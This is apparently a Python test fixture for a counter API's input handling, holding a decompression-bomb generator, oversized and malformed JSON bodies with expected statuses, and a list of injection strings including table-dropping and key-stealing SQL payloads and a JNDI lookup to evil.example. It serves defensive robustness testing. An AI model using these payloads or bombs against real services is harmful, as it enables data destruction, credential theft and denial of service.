"""Bodies that are meant to fill the memory of whoever reads them, or to bring the reading down."""

import json
import zlib
from typing import Final

MEGABYTE: Final = 1 << 20
MEMBERS: Final = b",".join(b'"%x":1' % number for number in range(100_000))


def bomb(megabytes: int, *, gzip: bool) -> bytes:
    """About a kilobyte for each megabyte that it unpacks to, as gzip or deflate (zlib)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31 if gzip else 15)
    # A part that ends on a byte can stand there again and again: nobody has to pack a gigabyte.
    begin = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    part = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return begin + part * (megabytes - 1) + packer.flush()


def increment(**members: object) -> bytes:
    """One increment as JSON."""
    return json.dumps({"counter": "public", **members}).encode()


JSON: Final[tuple[tuple[str, bytes, int], ...]] = (
    ("nothing", b"", 400),
    ("null", b"null", 422),
    ("a number", b"1", 422),
    ("an empty array", b"[]", 422),
    ("arrays in arrays", b"[" * 500_000, 413),
    ("arrays in arrays, whole", b"[" * 400_000 + b"]" * 400_000, 413),
    ("objects in objects", b'{"a":' * 150_000 + b"1" + b"}" * 150_000, 413),
    ("objects in a key", b'{"counter":"public","key":' + b'{"a":' * 100_000, 413),
    ("arrays in arrays, some", b"[" * 40_000, 400),
    ("a number of a megabyte", b'{"counter":"public","amount":' + b"9" * 1_000_000 + b"}", 422),
    ("a number beyond doubles", b'{"counter":"public","amount":1e400}', 422),
    ("a number beyond 64 bits", increment(amount=2**63), 422),
    ("a document that does not end", b'{"counter":"public"', 400),
    ("NaN", b'{"counter":"public","amount":NaN}', 400),
    ("infinity", b'{"counter":"public","at":Infinity}', 400),
    ("a time far away", increment(at=1e300), 422),
    ("a time long ago", increment(at=-1e15), 422),
    ("a time before time", increment(at="0001-01-01T00:00:00+23:59"), 422),
    ("a time of a megabyte", increment(at="2" * 1_000_000), 422),
    ("a key of a megabyte", increment(key="k" * 1_000_000), 202),
    ("a counter of a megabyte", increment(counter="c" * 1_000_000), 422),
    ("an id of a megabyte", increment(id="i" * 1_000_000), 422),
    ("a member of a megabyte", b'{"counter":"public","' + b"x" * 1_000_000 + b'":1}', 422),
    ("members without end, one of them twice", b'{%b,"1869f":1}' % MEMBERS, 413),
    ("half a surrogate pair", b'{"counter":"public","key":"\\ud800"}', 400),
    ("no UTF-8", b'{"counter":"public","key":"\xff\xfe"}', 400),
    ("a surrogate in UTF-8", b'{"counter":"public","key":"\xed\xa0\x80"}', 400),
    ("a byte order mark", b"\xef\xbb\xbf" + increment(), 400),
    ("a NUL at the end", increment() + b"\0", 400),
    ("a counter with a line in it", increment(counter="public\nx"), 422),
    ("a counter with a NUL", increment(counter="public\0"), 422),
    ("a name of a member of Python's", increment(__class__="x"), 422),
    ("an array of everything", b'[null,true,1,"x",[],{}]', 422),
    ("a million of nothing", b"[" + b"{}," * 300_000 + b"{}]", 413),
)
"""Bodies of increments, and the status that each is answered with; nothing of them is counted."""

SQL: Final = (
    "'",
    '"',
    "`",
    "\\",
    "%",
    "' OR '1'='1",
    "'; DROP TABLE counter_slot; -- ",
    "' UNION SELECT id, secret_hash FROM api_key -- ",
    "') ON DUPLICATE KEY UPDATE amount = 1000000 -- ",
    "'; SELECT SLEEP(20); -- ",
    "%s",
    "{0}",
    "${jndi:ldap://evil.example/a}",
    "_binary'x'",
    "\x00",
    "a\x1a\b\t\r\nb",
    "‘ OR 1=1 ﹣﹣",
    "__overflow__",
)
"""Texts that are SQL, or something else that somebody could take for more than a text."""
